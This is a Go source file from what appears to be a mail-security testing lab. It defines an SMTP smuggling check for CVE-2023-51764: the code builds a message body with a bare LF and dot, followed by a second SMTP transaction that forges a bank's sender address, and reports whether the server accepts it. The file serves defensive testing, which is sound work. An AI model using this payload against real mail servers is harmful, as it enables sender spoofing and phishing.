package attacks

import (
	"context"
	"slices"

	"github.com/waxseal/waxseal/internal/lab"
)

func smtpSmuggling() *lab.Attack {
	return &lab.Attack{
		ID:    "smtp_smuggling",
		Story: "A message has a bare LF, a dot and another message in its body, which a careless server takes for the end of the first.",
		Seen:  "A letter from the bank that its own server seems to have sent.",
		Ref:   "CVE-2023-51764",
		Run: opened(func(ctx context.Context, s *lab.Stage) (lab.Result, error) {
			conn, err := s.Dial(ctx, lab.CrookOut)
			if err != nil {
				return lab.Result{}, err
			}
			defer conn.Close()
			letter := lab.Letter{From: "Crook <mail@" + lab.Crook + ">", Subject: "Hello", Body: "Hello\r\n\n.\r\n" +
				"MAIL FROM:<service@" + s.World.Bank + ">\r\nRCPT TO:<" + s.World.Recipient() + ">\r\nDATA\r\n"}
			reply, err := s.Converse(conn, "EHLO "+lab.CrookMX+"\r\n", "MAIL FROM:<mail@"+lab.Crook+">\r\n", "RCPT TO:<"+s.World.Recipient()+">\r\n",
				"DATA\r\n", string(s.World.Write(letter))+".\r\n")
			if err != nil {
				return lab.Result{}, err
			}
			if slices.Contains(s.Told(), "service@"+s.World.Bank) {
				return lab.Result{Outcome: lab.Passes, Text: "the server has taken the second message for one of its own"}, nil
			}
			return (&lab.Receipt{Reply: reply}).Arrived(), nil
		}),
	}
}
